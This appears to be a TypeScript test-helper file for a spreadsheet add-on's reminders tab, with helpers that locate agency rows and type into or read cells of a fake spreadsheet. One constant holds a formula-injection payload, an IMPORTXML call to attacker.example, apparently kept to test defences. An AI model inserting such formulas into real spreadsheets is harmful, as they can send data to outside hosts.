// Where agencies stand in the list of reminders and in its tab.
import type { RemindersView } from "../../../addon/contract/reminders.ts";
import { REMINDERS_TAB } from "../../../shared/wording/reminding.ts";
import { rowsOf } from "../answers.ts";
import type { Harness } from "../environment.ts";

export const PERIOD = "kh-6134-2021";
export const TAB = `${REMINDERS_TAB.tab} – Năm 2021`;
export const HOSTILE = '=IMPORTXML("https://attacker.example";"//a")';
export const HEAD_ROW = 4;

/** 10/12/2021 as the spreadsheet counts days. */
export const COLUMNS = Object.keys(REMINDERS_TAB.columns) as (keyof typeof REMINDERS_TAB.columns)[];

/** The hidden key stands before them. */
export const columnOf = (id: keyof typeof REMINDERS_TAB.columns) => COLUMNS.indexOf(id) + 2;

export const itemsOf = ({ groups }: RemindersView) =>
  groups.flatMap(({ items, reason }) => items.map((item) => ({ ...item, reason })));

export const itemOf = (view: RemindersView, id: string) =>
  itemsOf(view).find(({ agency }) => agency.id === id);

/** The row of an agency in the tab, counted from 1. */
export function rowOf(harness: Harness, id: string, name = TAB): number {
  const at = rowsOf(harness, name).findIndex(([key = ""]) => key.split(" ")[0] === id);
  if (at < 0) throw new Error(`no row of ${id} in ${name}`);
  return at + 1;
}

export const typeAt = (
  harness: Harness,
  id: string,
  column: keyof typeof REMINDERS_TAB.columns,
  text: string,
) => harness.fake.type(TAB, rowOf(harness, id), columnOf(column), text);

export const textAt = (
  harness: Harness,
  id: string,
  column: keyof typeof REMINDERS_TAB.columns,
  name = TAB,
) => rowsOf(harness, name)[rowOf(harness, id, name) - 1]?.[columnOf(column) - 1];

export const tabNames = ({ fake }: Harness) => fake.spreadsheet.sheets().map((each) => each.name());
